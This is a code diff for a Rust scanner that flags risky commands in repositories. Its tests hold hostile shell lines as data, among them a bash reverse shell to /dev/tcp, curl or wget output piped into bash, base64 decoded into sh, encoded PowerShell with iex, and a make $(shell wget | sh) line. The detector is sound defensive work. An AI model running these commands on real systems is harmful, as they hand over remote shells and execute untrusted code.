@@ -5,6 +5,13 @@ use proofhouse_core::Place;
 
 use crate::scanner::Scanner;
 
+mod followed;
+mod harm;
+mod sweep;
+
+pub(crate) use followed::not_followed;
+pub(crate) use sweep::sweep;
+
 /// Hosts that packages, drivers and compilers come from. Whatever else is installed from is somebody's own server.
 pub(crate) const INDICES: [&str; 16] = [
     "https://pypi.org/",
@@ -75,19 +82,28 @@ pub(crate) fn line(scanner: &mut Scanner<'_>, place: &Place, line: &str) {
         return;
     }
     let shown: String = line.chars().take(80).collect();
-    let (rule, what) = match judged(line) {
+    let judged = judged(line);
+    let (rule, what) = told(judged);
+    scanner.report(rule, place.clone(), format!("{what}: {shown:?}"));
+}
+
+/// The rule and the words for a line.
+const fn told(judged: Judged) -> (&'static str, &'static str) {
+    match judged {
+        Judged::Harms(what) => ("code/harmful", what),
         Judged::Runs => ("code/runs-fetched", "fetches or decodes something and runs it"),
         Judged::Foreign => ("repo/requirement", "installs what comes from elsewhere"),
         Judged::Loads => ("code/environment", "sets a variable by which programs load code"),
         Judged::Installs => ("code/command", "installs packages"),
         Judged::Fetches => ("code/command", "fetches something"),
         Judged::Command => ("code/command", "runs a command"),
-    };
-    scanner.report(rule, place.clone(), format!("{what}: {shown:?}"));
+    }
 }
 
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 enum Judged {
+    /// What no model needs, whatever it is fetched from.
+    Harms(&'static str),
     Runs,
     Foreign,
     Loads,
@@ -130,6 +146,9 @@ const INTERPRETERS: [&str; 24] = [
 ];
 
 fn judged(line: &str) -> Judged {
+    if let Some(what) = harm::harms(line) {
+        return Judged::Harms(what);
+    }
     if line.contains("/dev/tcp/") || line.contains("/dev/udp/") || encoded(line) || runs_fetched(line) {
         return Judged::Runs;
     }
@@ -157,8 +176,9 @@ fn statements(line: &str) -> Vec<Vec<&str>> {
 
 /// The program that a stage starts, without its folder, and its words.
 fn command(stage: &str) -> Option<(String, Vec<&str>)> {
-    const BEFORE: [&str; 12] =
-        ["sudo", "env", "time", "nohup", "then", "do", "if", "else", "!", "{", "command", "-c"];
+    // `shell` is the function of make.
+    const BEFORE: [&str; 13] =
+        ["sudo", "env", "time", "nohup", "then", "do", "if", "else", "!", "{", "command", "-c", "shell"];
     let words: Vec<&str> = stage
         .split(|c: char| c.is_whitespace() || matches!(c, '<' | '>' | '$'))
         .filter(|w| !w.is_empty())
@@ -296,7 +316,7 @@ mod tests {
             ("bash <(curl -s https://example.org/x)", Judged::Runs),
             ("wget https://example.org/x && chmod +x x && ./x", Judged::Runs),
             ("echo aGk= | base64 -d | sh", Judged::Runs),
-            ("bash -i >& /dev/tcp/example.org/1 0>&1", Judged::Runs),
+            ("bash -i >& /dev/tcp/example.org/1 0>&1", Judged::Harms("hands a shell to somebody else")),
             ("powershell -enc SQBFAFgA", Judged::Runs),
             ("powershell -c iex (iwr http://example.org/x); x", Judged::Runs),
             ("curl -L https://example.org/weights.bin -o w.bin", Judged::Fetches),
@@ -322,6 +342,7 @@ mod tests {
             ("export CUDA_VISIBLE_DEVICES=0", Judged::Command),
             ("python train.py --lr 0.1", Judged::Command),
             ("nvidia-smi", Judged::Command),
+            ("VERSION := $(shell wget -qO- http://example.org/v | sh)", Judged::Runs),
         ] {
             assert_eq!(judged(line), expected, "{line}");
         }
